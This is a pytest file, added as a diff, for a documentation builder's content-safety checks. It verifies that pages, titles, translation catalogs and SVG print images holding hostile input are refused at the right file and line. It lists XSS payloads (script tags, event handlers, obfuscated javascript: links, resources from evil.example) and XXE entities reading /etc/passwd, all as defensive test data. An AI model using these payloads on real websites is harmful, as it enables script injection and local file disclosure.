@@ -1,0 +1,221 @@
+"""Hostile input in content pages, titles, catalogs and print pictures: each
+refused with its file and line, in English and Korean, never a traceback."""
+
+from __future__ import annotations
+
+import os
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from guidebook.checks import content_safety
+from guidebook.checks.inputs import check_catalogs, check_content
+from tests.conftest import LANGS, ROOT
+
+HOSTILE = {
+    "script": "<script>alert(1)</script>",
+    "script upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "iframe": '<iframe src="https://evil.example/"></iframe>',
+    "object": '<object data="x.swf"></object>',
+    "embed": '<embed src="x.swf">',
+    "form": '<form action="https://evil.example/"><input name="q"></form>',
+    "style element": "<style>body{display:none}</style>",
+    "svg with script": "<svg><script>alert(1)</script></svg>",
+    "math": "<math><mi>x</mi></math>",
+    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "base": '<base href="https://evil.example/">',
+    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
+    "quoted handler": '<span onclick="alert(1)">x</span>',
+    "unquoted handler": "<span onmouseover=alert(1)>x</span>",
+    "handler in upper case": '<p ONLOAD="x">x</p>',
+    "style attribute": '<p style="color:red">x</p>',
+    "javascript link": '<a href="javascript:alert(1)">x</a>',
+    "javascript link with entities": '<a href="jav&#x61;script:alert(1)">x</a>',
+    "javascript link with a tab": '<a href="java\tscript:alert(1)">x</a>',
+    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
+    "markdown javascript link": "[click](javascript:alert(1))",
+    "markdown javascript reference": "[click][x]\n\n[x]: javascript:alert(1)",
+    "markdown image from another host": "![map](https://evil.example/map.png)",
+    "protocol-relative image": '<img src="//evil.example/x.png" alt="">',
+    "image srcset from another host": '<img src="a.png" srcset="https://evil.example/x.png 2x" alt="">',
+    "attr_list handler": "[x](https://example.org/){ onclick=\"alert(1)\" }",
+    "attr_list style": "Text\n{: style=\"display:none\" }",
+    "unknown element": "<marquee>x</marquee>",
+    "processing instruction": "<?php echo 1 ?>",
+}
+
+
+def write_page(folder: Path, body: str, name: str = "help.en.md", front: str = "") -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / name
+    path.write_text(front + "Some text.\n\n" + body + "\n", encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE))
+def test_hostile_html_is_refused_at_its_line(tmp_path: Path, case: str) -> None:
+    docs = tmp_path / "content"
+    write_page(docs, HOSTILE[case], front="---\ntitle: Help\n---\n")
+    errors = check_content(docs, LANGS, "content", print_texts=False)
+    assert errors, f"{case} was accepted"
+    for error in errors:
+        assert error.file == "content/help.en.md"
+        assert error.line >= 6, (case, error.format())  # the body's line, not 1
+        assert error.fix_en and error.fix_ko and any("\uac00" <= c <= "\ud7a3" for c in error.ko)
+
+
+def test_what_pages_use_today_is_accepted(tmp_path: Path) -> None:
+    docs = tmp_path / "content"
+    write_page(docs, textwrap.dedent("""\
+        <div class="gb-card" markdown>
+        **Call 119** <bdi dir="ltr">119</bdi> <span lang="ko">응급</span>
+        </div>
+
+        [Kakao Map](https://map.kakao.com/?q=x) · [mail](mailto:a@example.org) · [call](tel:+8221234567)
+        · [help](../help/) · ![map](images/map.png)
+
+        | a | b |
+        |---|---|
+        | <abbr title="x">1</abbr> | <time datetime="2026-01-01">1 Jan</time> |
+
+        !!! note "Note"
+            Text with `<script>` in code, and:
+
+                <script>an indented code block</script>
+
+        <p hidden class="x" data-gb="1" aria-label="y">p</p>
+        """))
+    assert check_content(docs, LANGS, "content", print_texts=False) == []
+
+
+def test_the_sample_pages_pass() -> None:
+    assert check_content(ROOT / "content", LANGS, "content") == []
+
+
+def test_markup_in_a_title_is_refused_at_its_line(tmp_path: Path) -> None:
+    docs = tmp_path / "content"
+    write_page(docs, "", front='---\ndescription: x\ntitle: "<img src=x onerror=alert(1)>"\n---\n')
+    [error] = check_content(docs, LANGS, "content", print_texts=False)
+    assert (error.file, error.line, error.path) == ("content/help.en.md", 3, "title")
+
+
+def test_a_byte_order_mark_before_the_front_matter(tmp_path: Path) -> None:
+    docs = tmp_path / "content"
+    docs.mkdir()
+    (docs / "help.en.md").write_bytes("\ufeff---\ntitle: Help\n---\nText\n".encode())
+    assert check_content(docs, LANGS, "content", print_texts=False) == []
+    (docs / "help.en.md").write_bytes("\ufeff---\ntitle: [Help\n---\nText\n".encode())
+    [error] = check_content(docs, LANGS, "content", print_texts=False)
+    assert error.line == 2
+
+
+def test_a_page_linked_from_outside_the_project_is_refused(tmp_path: Path) -> None:
+    docs = tmp_path / "content"
+    docs.mkdir()
+    secret = tmp_path / "secret.md"
+    secret.write_text("passwords\n", encoding="utf-8")
+    os.symlink(secret, docs / "help.en.md")
+    [error] = check_content(docs, LANGS, "content", print_texts=False)
+    assert error.file == "content/help.en.md" and "symlink" in error.ko
+
+
+def test_a_huge_page_is_refused(tmp_path: Path) -> None:
+    docs = tmp_path / "content"
+    write_page(docs, "- item\n" * 40_000)
+    [error] = check_content(docs, LANGS, "content", print_texts=False)
+    assert "KB" in error.en
+
+
+CATALOG = """\
+msgid ""
+msgstr ""
+"Content-Type: text/plain; charset=UTF-8\\n"
+
+#, python-format
+msgid "Updated %(date)s"
+msgstr "{updated}"
+
+msgid "Help"
+msgstr "{help}"
+"""
+
+
+@pytest.mark.parametrize("updated, help_, bad", [
+    ("更新于 %(date)s", "帮助", None),
+    ("更新于 %(date)s 100%", "帮助", 6),  # a lone % would crash the build
+    ("更新于 %(data)s", "帮助", 6),
+    ("更新于 %(date)s", "<script>alert(1)</script>", 9),
+    ("更新于 %(date)s", "<b>帮助</b>", 9),
+])
+def test_catalog_strings_that_would_break_a_page(tmp_path: Path, updated: str, help_: str,
+                                                 bad: int | None) -> None:
+    root = tmp_path / "translations"
+    for lang in LANGS[1:]:
+        folder = root / lang / "LC_MESSAGES"
+        folder.mkdir(parents=True)
+        text = CATALOG.format(updated=updated, help=help_) if lang == "zh" else CATALOG.format(
+            updated="%(date)s", help="x")
+        (folder / "messages.po").write_text(text, encoding="utf-8")
+    errors = check_catalogs(root, LANGS)
+    if bad is None:
+        assert errors == []
+    else:
+        assert [(e.file, e.line) for e in errors] == [("translations/zh/LC_MESSAGES/messages.po", bad)]
+
+
+def test_an_unclosed_quote_in_a_catalog_is_found_at_its_line(tmp_path: Path) -> None:
+    root = tmp_path / "translations"
+    for lang in LANGS[1:]:
+        folder = root / lang / "LC_MESSAGES"
+        folder.mkdir(parents=True)
+        text = CATALOG.format(updated="%(date)s", help="x")
+        if lang == "mn":
+            text = text.replace('msgstr "x"', 'msgstr "Тусламж')
+        (folder / "messages.po").write_text(text, encoding="utf-8")
+    errors = check_catalogs(root, LANGS)
+    assert [(e.file, e.line) for e in errors] == [("translations/mn/LC_MESSAGES/messages.po", 10)]
+
+
+def test_a_bad_translation_falls_back_to_english_in_the_build(tmp_path: Path) -> None:
+    from guidebook.common import i18n
+
+    root = tmp_path / "translations"
+    folder = root / "zh" / "LC_MESSAGES"
+    folder.mkdir(parents=True)
+    (folder / "messages.po").write_text(CATALOG.format(updated="更新于 %(date)s 100%",
+                                                       help="<b>帮助</b>"), encoding="utf-8")
+    tr = i18n.translations("zh", root)
+    assert tr.gettext("Updated %(date)s") % {"date": "1"} == "Updated 1"  # no crash
+    assert tr.gettext("Help") == "Help"
+
+
+@pytest.mark.parametrize("name, content, ok", [
+    ("emblem.svg", '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>', True),
+    ("emblem.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', False),
+    ("emblem.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', False),
+    ("emblem.svg", '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/x.png"/></svg>', False),
+    ("emblem.svg", '<svg xmlns="http://www.w3.org/2000/svg" style="fill:url(https://evil.example/#a)"/>', False),
+    ("emblem.svg", '<svg xmlns="http://www.w3.org/2000/svg"><use xlink:href="file:///etc/passwd"/></svg>', False),
+    ("emblem.svg", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>', False),
+    ("emblem.gif", "GIF89a", False),
+    ("emblem.png", "not a png", False),
+])
+def test_print_pictures(tmp_path: Path, name: str, content: str, ok: bool) -> None:
+    (tmp_path / name).write_text(content, encoding="utf-8")
+    problems = content_safety.picture_problems(tmp_path, name, "emblem", "mkdocs.yml")
+    assert (problems == []) == ok, [p.format() for p in problems]
+
+
+def test_a_print_picture_outside_the_project(tmp_path: Path) -> None:
+    project = tmp_path / "project"
+    project.mkdir()
+    outside = tmp_path / "x.png"
+    outside.write_bytes(b"\x89PNG\r\n\x1a\n")
+    for value in ("../x.png", str(outside)):
+        [problem] = content_safety.picture_problems(project, value, "emblem", "mkdocs.yml")
+        assert "outside" in problem.en
+    os.symlink(outside, project / "link.png")
+    [problem] = content_safety.picture_problems(project, "link.png", "emblem", "mkdocs.yml")
+    assert "outside" in problem.en
